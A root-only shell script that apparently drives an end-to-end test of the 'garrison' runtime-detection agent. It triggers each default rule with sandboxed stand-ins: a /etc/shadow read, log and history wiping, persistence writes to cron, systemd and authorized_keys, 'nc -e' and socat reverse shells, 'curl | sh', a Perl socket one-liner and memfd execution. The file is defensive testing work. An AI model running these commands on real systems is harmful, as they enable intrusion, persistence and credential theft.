#!/bin/sh
# Performs the behaviors the default ruleset covers, for the end-to-end test
# (crates/garrison/tests/e2e_rules_agent.rs), which runs `garrison agent` meanwhile.
#
#   behaviors.sh host WORKDIR       each behavior on the host, in its own `sh -c`;
#                                   prints "<pid>\t<rule>" per behavior
#   behaviors.sh container IMAGE    behaviors inside podman containers; prints
#                                   "<container id>\t<rule>" per behavior
#   behaviors.sh benign WORKDIR     an ordinary workload; prints "<pid>\tbenign"
#   behaviors.sh sentinel -         one shadow read; prints "<pid>\t<rule>"
#
# Root only. Everything stays on this machine: network behaviors run in a network
# namespace made here (loopback plus 10.200.0.1 on its `lo`), or in a container
# with --network=none (the cloud metadata connect fails locally). A behavior keyed
# on a program's name (nmap, nc, hashcat, ...) runs a copy of /bin/true under that
# name: the rule sees exactly what the real tool's exec shows. Files written below
# /etc, /usr and /var/log are the script's own, removed at once; opens of real
# system files (/etc/passwd, core_pattern, release_agent) append nothing.
set -u
mode=$1
arg=$2
SELF=$(readlink -f "$0")
export SELF

# Runs COMMAND in its own `sh -c`; prints "<pid>\t<rule>" for each RULE (|-separated).
behavior() { # RULES COMMAND
    sh -c "$2" >/dev/null 2>&1 &
    pid=$!
    wait "$pid"
    printf '%s\n' "$1" | tr '|' '\n' | while read -r rule; do
        printf '%s\t%s\n' "$pid" "$rule"
    done
}

# A copy of /bin/true under another name, in $B.
fake() {
    for n in "$@"; do cp /bin/true "$B/$n"; done
}

# In a new network namespace whose lo has 10.200.0.1 (not loopback for the rules,
# local for the kernel: no packet leaves), with a listener on PORT, runs COMMAND.
netns() { # PORT COMMAND
    unshare -n "$SELF" netns-inside "$1" "$2"
}

netns_inside() { # PORT COMMAND
    ip link set lo up && ip addr add 10.200.0.1/32 dev lo || exit 1
    perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(LocalAddr => "10.200.0.1:$ARGV[0]", Listen => 5, ReuseAddr => 1) or die "listen: $!"; alarm 5; while (my $c = $s->accept) { sleep 1; close $c }' "$1" &
    listener=$!
    sleep 0.3
    sh -c "$2"
    sleep 0.2
    kill "$listener" 2>/dev/null
    true
}

# Like behavior, for COMMAND run by netns.
behavior_ns() { # RULES PORT COMMAND
    netns "$2" "$3" >/dev/null 2>&1 &
    pid=$!
    wait "$pid"
    printf '%s\n' "$1" | tr '|' '\n' | while read -r rule; do
        printf '%s\t%s\n' "$pid" "$rule"
    done
}

host() {
    D=$arg
    B=$D/bin
    mkdir -p "$B" "$D/home/.ssh"
    fake nmap hashcat ngrok chisel amicontained auditctl xmrig nc socat
    cp /usr/bin/perl "$B/nginx"
    export D B

    behavior "Shadow File Read by Unexpected Program" 'cat /etc/shadow'
    behavior "Search for Private Keys or Passwords" 'grep -r "BEGIN RSA PRIVATE" "$D"'
    behavior "Log File Truncated" ': > /var/log/garrison-e2e.log'
    behavior "Log File Deleted" 'rm -f /var/log/garrison-e2e.log'
    behavior "Log Clearing Command" 'truncate -c -s 0 /var/log/btmp.garrison-e2e-absent'
    behavior "Shell History Deleted or Truncated" 'touch "$D/.bash_history"; rm "$D/.bash_history"'
    behavior "Shell History Linked to /dev/null" 'ln -sf /dev/null "$D/.zsh_history"'
    behavior "History Disabled in Shell" 'unset HISTFILE; true'
    behavior "Timestomping with touch" 'touch -c -r /bin/sh /etc/garrison-e2e-absent'
    behavior "Security Tool Killed" 'pkill -0 garrison-e2e-auditd-absent'
    behavior "Audit Logging Disabled" '"$B/auditctl" -D'
    behavior "Hidden Executable Written in System Directory" 'cp /bin/true /usr/local/bin/.garrison-e2e; rm -f /usr/local/bin/.garrison-e2e'
    behavior "Write Below Binary Directories" 'echo x > /usr/local/bin/garrison-e2e; rm -f /usr/local/bin/garrison-e2e'
    behavior "System Binary Deleted" 'touch /usr/local/sbin/garrison-e2e; rm -f /usr/local/sbin/garrison-e2e'
    behavior "Write Below /etc" 'echo x > /etc/garrison-e2e.conf; rm -f /etc/garrison-e2e.conf'
    behavior "Write Below /usr Libraries" 'mkdir -p /usr/local/lib; echo x > /usr/local/lib/garrison-e2e.so; rm -f /usr/local/lib/garrison-e2e.so'
    behavior "Cron Job Modified" 'mkdir -p /etc/cron.d; echo "# e2e" > /etc/cron.d/garrison-e2e; rm -f /etc/cron.d/garrison-e2e'
    behavior "Systemd Unit Written" 'mkdir -p /etc/systemd/system; echo "[Unit]" > /etc/systemd/system/garrison-e2e.service; rm -f /etc/systemd/system/garrison-e2e.service'
    behavior "Systemd Service Enabled by Link" 'mkdir -p /etc/systemd/system; ln -sf /dev/null /etc/systemd/system/garrison-e2e-link.service; rm -f /etc/systemd/system/garrison-e2e-link.service'
    behavior "Init Script Modified" 'mkdir -p /etc/init.d; echo "#!/bin/sh" > /etc/init.d/garrison-e2e; rm -f /etc/init.d/garrison-e2e'
    behavior "Shell Profile Modified" 'mkdir -p /etc/profile.d; echo "# e2e" > /etc/profile.d/garrison-e2e.sh; rm -f /etc/profile.d/garrison-e2e.sh'
    behavior "SSH Authorized Keys Modified" 'echo "ssh-ed25519 AAAA e2e" > "$D/home/.ssh/authorized_keys"'
    behavior "User Account Created" 'useradd --help'
    behavior "Group Created or Changed" 'groupadd --help'
    behavior "Account Database Written Directly" ': >> /etc/passwd'
    behavior "Core Pattern Written" ': >> /proc/sys/kernel/core_pattern'
    if [ -e /sys/fs/cgroup/memory/release_agent ]; then
        behavior "Cgroup Release Agent Written" ': >> /sys/fs/cgroup/memory/release_agent'
    fi
    behavior "Network Scanner Run" '"$B/nmap" -sS 10.200.0.0/24'
    behavior "Credential Dumping Tool Run" '"$B/hashcat" -m 1800 hashes.txt'
    behavior "Tunneling Tool Run" '"$B/ngrok" tcp 22'
    behavior "Remote Execution Tool Run" '"$B/chisel" client 10.200.0.1:8000 R:socks'
    behavior "Container Escape Discovery Tool Run" '"$B/amicontained"'
    behavior "Cryptominer Started" '"$B/xmrig" -o stratum+tcp://10.200.0.1:3333 -u wallet'
    behavior "Netcat Remote Code Execution" '"$B/nc" -e /bin/sh 10.200.0.1 4444'
    behavior "Socat Reverse Shell" '"$B/socat" exec:/bin/sh tcp:10.200.0.1:4444'
    behavior "Remote Script Piped to Shell" 'sh -c "curl -fsS http://127.0.0.1:9/install.sh | sh"'
    behavior "Execution from /tmp" 'cp /bin/true /tmp/garrison-e2e-true-$$ && /tmp/garrison-e2e-true-$$; rm -f /tmp/garrison-e2e-true-$$'
    behavior "Execution from /dev/shm" 'cp /bin/true /dev/shm/garrison-e2e-true-$$ && /dev/shm/garrison-e2e-true-$$; rm -f /dev/shm/garrison-e2e-true-$$'
    behavior "Fileless Execution via memfd" 'perl -e '"'"'my $n = "e2e"; my $fd = syscall(319, $n, 0); die "memfd_create: $!" if $fd < 0; open(my $in, "<:raw", "/bin/true") or die; local $/; my $data = <$in>; open(my $m, ">&=", $fd) or die; binmode $m; syswrite($m, $data) == length($data) or die; exec {"/proc/self/fd/$fd"} "e2e-memfd";'"'"
    behavior "Setuid or Setgid Bit Set" 'touch "$D/suid"; chmod u+s "$D/suid"'
    # A root process that keeps 0 only as its saved uid (real and effective 1000), then
    # takes root back with setuid(0): allowed without privilege, and no sudo involved.
    behavior "Non-sudo Setuid to Root" 'perl -e '"'"'syscall(117, 1000, 1000, 0) == 0 or die "setresuid: $!"; syscall(105, 0) == 0 or die "setuid: $!"'"'"
    # A program run from a file deleted before the exec: the open descriptor is all
    # that is left of it.
    behavior "Executable Deleted After Start" 'cp /bin/true "$D/gone-$$" && exec 3<"$D/gone-$$" && rm "$D/gone-$$" && /proc/self/fd/3'
    behavior "Ptrace Attach to Process" 'sleep 3 & perl -e '"'"'syscall(101, 16, $ARGV[0] + 0, 0, 0) == 0 or die "ptrace: $!"; sleep 0.2'"'"' $!; kill $! 2>/dev/null'
    behavior "Ptrace Anti-Debug" 'perl -e '"'"'syscall(101, 0, 0, 0, 0)'"'"
    behavior "BPF Program Loaded" 'perl -e '"'"'syscall(321, 5, 0, 0)'"'"
    behavior "Disk Wipe Command" 'echo x > /dev/shm/garrison-e2e-wipe-$$; shred -n 1 -u /dev/shm/garrison-e2e-wipe-$$'
    behavior "Firewall Flushed or Disabled" 'unshare -n iptables -F'
    behavior "Shell Spawned by Server Process|Reconnaissance Commands from Server Shell" \
        '"$B/nginx" -e '"'"'system("/bin/sh", "-c", "id >/dev/null; true")'"'"
    for pr in "4444:Bash Network Redirection to /dev/tcp|Connection to Common Reverse Shell Port" \
        "8080:System Binary Made Outbound Connection" "3333:Connection to Mining Pool Port" \
        "22:Outbound SSH from Unexpected Program"; do
        port=${pr%%:*}
        behavior_ns "${pr#*:}" "$port" "bash -c 'echo hi > /dev/tcp/10.200.0.1/$port'"
    done
    behavior_ns "Interpreter Inline Code Made Outbound Connection" 8081 \
        "perl -e 'use IO::Socket::INET; IO::Socket::INET->new(PeerAddr => \"10.200.0.1:8081\") or die'"
    # A UDP DNS query for a mining pool's name, to 10.200.0.1:53 in the namespace
    # (nothing answers: the query is what the rule reads, from the transmit queue).
    behavior_ns "DNS Lookup of Mining Pool" 8083 \
        "perl -MIO::Socket::INET -e 'my \$q = pack(q(n6), 0x4d50, 0x0100, 1, 0, 0, 0) . join(q(), map { chr(length) . \$_ } split /[.]/, q(xmr.nanopool.org)) . chr(0) . pack(q(n2), 1, 1); my \$s = IO::Socket::INET->new(PeerAddr => q(10.200.0.1:53), Proto => q(udp)) or die; \$s->send(\$q) or die'"
    # The classic one-liner: a socket on the shell's standard streams.
    oneliner='use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")) or die; connect(S, sockaddr_in(8082, inet_aton("10.200.0.1"))) or die; open(STDIN, ">&S"); open(STDOUT, ">&S"); exec("/bin/sh -c true");'
    cat > "$D/oneliner.sh" <<EOS
exec perl -e '$oneliner'
EOS
    behavior_ns "Reverse Shell with Socket on Standard Streams|Interpreter Reverse Shell One-Liner" 8082 "sh $D/oneliner.sh"
}

container() {
    image=$arg
    name=garrison-e2e-rules-$$
    # An unprivileged container: package manager, drift, shadow read, metadata.
    cid=$(podman run -d --network=none --name "$name-a" "$image" /bin/sh -c '
        sleep 1
        apt-get --version >/dev/null
        cat /etc/shadow >/dev/null
        cp /bin/true /usr/local/bin/dropped && /usr/local/bin/dropped
        echo x > /etc/garrison-e2e.conf
        perl -MIO::Socket::INET -e "IO::Socket::INET->new(PeerAddr => q(169.254.169.254:80), Timeout => 1)"
        bash -c "echo > /dev/tcp/169.254.169.254/80" 2>/dev/null
        sleep 1') || exit 1
    podman wait "$cid" >/dev/null
    for r in "Package Manager Run in Container" "Shadow File Read by Unexpected Program" \
        "Drift - New Executable Run in Container" "Write Below /etc" \
        "Cloud Metadata Service Contacted from Container"; do
        printf '%s\t%s\n' "$cid" "$r"
    done
    podman rm -f "$cid" >/dev/null 2>&1
    # A privileged one: mount and unshare inside, and its start is a rule itself.
    cid=$(podman run -d --privileged --network=none --name "$name-b" "$image" /bin/sh -c '
        sleep 1
        mkdir -p /mnt/e2e && mount -t tmpfs none /mnt/e2e
        unshare -m true
        sleep 1') || exit 1
    podman wait "$cid" >/dev/null
    for r in "Privileged Container Started" "Mount in Container" "Unshare in Container"; do
        printf '%s\t%s\n' "$cid" "$r"
    done
    podman rm -f "$cid" >/dev/null 2>&1
    # An interactive shell (a terminal allocated by podman).
    cid=$(podman run -d -t --network=none --name "$name-c" "$image" /bin/bash -c 'sleep 1; /bin/sh -c "true"; sleep 1') || exit 1
    podman wait "$cid" >/dev/null
    printf '%s\t%s\n' "$cid" "Interactive Shell in Container"
    podman rm -f "$cid" >/dev/null 2>&1
}

benign() {
    D=$arg
    mkdir -p "$D/work"
    sh -c '
        cd "$1/work"
        ls -la /etc >/dev/null
        cat /etc/hostname /etc/os-release >/dev/null
        id >/dev/null; whoami >/dev/null; uname -a >/dev/null
        ps aux >/dev/null
        seq 1 2000 | sort -n | uniq | wc -l >/dev/null
        for i in 1 2 3 4 5; do echo "line $i" >> notes.txt; done
        grep -c line notes.txt >/dev/null
        cp notes.txt copy.txt && mv copy.txt moved.txt && rm moved.txt
        tar -czf archive.tgz notes.txt && tar -tzf archive.tgz >/dev/null
        gzip -k notes.txt && gunzip -c notes.txt.gz >/dev/null
        find . -name "*.txt" >/dev/null
        sha256sum notes.txt >/dev/null
        date >/dev/null; env >/dev/null
        perl -e "print 1+1" >/dev/null
        mkdir -p sub/dir && touch sub/dir/f && rm -r sub
        sleep 0.5
    ' benign "$D" >/dev/null 2>&1 &
    pid=$!
    wait "$pid"
    printf '%s\tbenign\n' "$pid"
}

# Runs "$SELF detached-MODE ARG" outside the caller's process tree (reparented to
# init: a test runs under cargo, and the rules rightly stay quiet for descendants of
# build tools), waits for it and prints its output.
detach() {
    out=$(mktemp)
    # The subshell starts the runner and exits; the runner waits until it is
    # reparented, then execs the script (the exec records its new parent).
    (
        sub=$(sh -c 'echo $PPID')
        sh -c 'n=0
            while [ "$(cut -d" " -f4 /proc/$$/stat)" = "$4" ] && [ $n -lt 200 ]; do
                n=$((n + 1)); sleep 0.05
            done
            exec "$0" "$1" "$2" >"$3" 2>/dev/null' "$SELF" "detached-$mode" "$arg" "$out" "$sub" &
    )
    n=0
    until grep -q '^done$' "$out"; do
        n=$((n + 1))
        [ "$n" -gt 1500 ] && { echo "behaviors.sh: the detached $mode run did not finish" >&2; exit 1; }
        sleep 0.2
    done
    grep -v '^done$' "$out"
    rm -f "$out"
}

case $mode in
host | benign | sentinel) detach ;;
detached-sentinel) trap 'echo done' EXIT; behavior "Shadow File Read by Unexpected Program" 'cat /etc/shadow' ;;
detached-host) trap 'echo done' EXIT; host ;;
detached-benign) trap 'echo done' EXIT; benign ;;
container) container ;;
netns-inside) netns_inside "$2" "$3" ;;
*) echo "usage: $0 host|container|benign ARG" >&2; exit 2 ;;
esac
